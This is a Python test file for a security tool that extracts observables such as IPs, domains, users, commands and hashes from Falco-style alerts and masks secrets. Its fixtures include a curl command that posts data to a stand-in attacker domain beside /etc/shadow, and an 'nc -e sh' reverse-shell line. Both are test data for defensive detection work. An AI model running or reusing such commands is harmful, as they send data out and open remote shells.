"""Observables are taken from the texts of an episode, whole or not at all, and never past what `minimise` lets out."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.delivery.mapping import render
from shared.delivery.mapping_file import read_text
from shared.delivery.observables import KINDS, LONGEST, MOST, observables
from shared.delivery.telling import context_of
from shared.events.episode import Episode
from tests.support.minimising import read
from tests.support.tickets import START, episode

ALERT = (
    "Warning Unexpected outbound connection | evt_type=connect user=alice user_uid=1000 process=curl "
    "proc_exepath=/usr/bin/curl parent=sh command=curl -d a=b https://evil.example.net/x?y=z terminal=0 "
    f"connection=10.128.0.7:50442->198.51.100.7:443 file=/etc/shadow sha256={'ab' * 32} "
    f"container_id={'3ad7' * 16} container_image=quay.io/shop/api k8s_pod_name=api-0 k8s_ns_name=shop"
)
OLDER = "Notice A shell (user=bob command=nc -e sh 2001:db8::7 file=/opt/x) at 09:41:07"


def of(message: str, kind: str, *older: str, **changes: Any) -> list[str]:
    history = [{"time": START, "reason": "rule", "message": text} for text in older]
    one = episode(message=message, component="falco", history=history, **changes)
    return [value for value in observables(one, kind).split("\n") if value]


@pytest.mark.parametrize(
    ("kind", "values"),
    [
        ("ipv4", ["10.128.0.7", "198.51.100.7"]),
        ("ipv6", ["2001:db8::7"]),
        ("domains", ["evil.example.net"]),
        ("users", ["alice", "bob"]),
        ("processes", ["curl"]),
        ("commands", ["curl -d a=b https://evil.example.net/x?y=z", "nc -e sh 2001:db8::7"]),
        ("files", ["/usr/bin/curl", "/etc/shadow", "/opt/x"]),
        ("images", ["quay.io/shop/api@sha256:" + "cd" * 32, "quay.io/shop/api"]),
        ("sha256", ["ab" * 32, "cd" * 32]),
        ("sha1", []),
        ("md5", []),
    ],
)
def test_an_alert_of_falco_gives_what_analysts_search_for(kind: str, values: list[str]) -> None:
    image = {"image": "quay.io/shop/api@sha256:" + "cd" * 32}
    older = OLDER if kind != "files" else OLDER.removesuffix(" at 09:41:07")
    assert of(ALERT, kind, older, relations=image) == values


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("ipv4", "version 1.2.3.4.5, image:1.2.3.4, 999.1.1.1, 127.0.0.1, 0.0.0.0 and 169.254.169.254"),
        ("ipv6", "at 09:41:07 from 0a:58:0a:80:00:07, std::vector and ::1"),
        ("domains", "https://api.shop.svc/x http://10.0.0.1/ https://api.cluster.local"),
        ("sha256", f"container_id={'3ad7' * 16} {'ab' * 32} sha256:{'ab' * 33}"),
        ("users", "(user=root) (user=<NA>) user=system:serviceaccount:shop:api"),
        ("files", "(file=pipe:[1234])"),
        ("commands", "(command=<NA>)"),
        ("commands", f"(command={'x' * (LONGEST + 1)})"),
        ("commands", "(command=sh -c a^ORb)"),
    ],
)
def test_what_only_looks_like_one_is_none(kind: str, text: str) -> None:
    assert of(text, kind) == []


def test_a_value_at_the_end_of_a_text_that_may_have_been_cut_is_left_out() -> None:
    text = "x" * 160 + " command=curl http://evil.example.ne"
    assert of(text, "commands") == of(text, "domains") == []
    assert of(text + "t/ it was", "domains") == ["evil.example.net"]


def test_of_many_the_latest_few_are_taken() -> None:
    older = [f"from 198.51.100.{number} it came" for number in range(50)]
    assert of("from 203.0.113.1 it came", "ipv4", *older) == ["203.0.113.1"] + [
        f"198.51.100.{number}" for number in range(49, 50 - MOST, -1)
    ]


@pytest.mark.parametrize("kept", ["drop", "pseudonym"])
def test_what_a_destination_is_not_to_know_is_no_observable_either(kept: str) -> None:
    group = ", ".join(f"{kind}: '{{{{ episode | observables(\"{kind}\") }}}}'" for kind in KINDS)
    text = f"operations:\n  open:\n    observables: {{fields: {{{group}}}}}\n"
    wanted = f"{{users: {kept}, addresses: {kept}, names: {kept}}}"
    one = episode(message=ALERT, component="falco", host="worker-3")
    whole = read_text(text, "m")
    assert not isinstance(whole, list)
    everything = render(whole, "open", context_of(one))
    assert isinstance(everything, dict)
    assert everything["observables"]["users"] == "alice"
    found = render(read(text, wanted, b"k" * 32), "open", context_of(one))
    assert isinstance(found, dict)
    left = found["observables"]
    assert not {"users", "ipv4", "ipv6"} & left.keys()
    assert not any(secret in str(left) for secret in ("alice", "198.51.100.7", "[user]", "u-", "a-"))
    assert left["files"] == "/usr/bin/curl\n/etc/shadow"


def test_a_secret_in_a_command_is_masked() -> None:
    text = "operations:\n  open:\n    observables: {fields: {C: '{{ episode | observables(\"commands\") }}'}}\n"
    mapping = read_text(text, "m")
    assert not isinstance(mapping, list)
    found = render(mapping, "open", context_of(episode(message="(command=mysql --password=hunter2hunter2 -h db)")))
    assert "hunter2" not in str(found)


def test_an_unknown_kind_and_what_is_no_episode_are_refused() -> None:
    with pytest.raises(ValueError, match="no kind of observables 'ip'"):
        observables(episode(), "ip")
    with pytest.raises(ValueError, match="those of an episode"):
        observables("text", "ipv4")


@given(st.text(max_size=2000), st.sampled_from(KINDS))
def test_whatever_a_message_says_there_are_few_and_short_ones(text: str, kind: str) -> None:
    one: Episode = episode(message=text, component="falco")
    found = observables(one, kind)
    assert len(found.split("\n")) <= MOST
    assert all(len(value) <= LONGEST and "^" not in value for value in found.split("\n"))
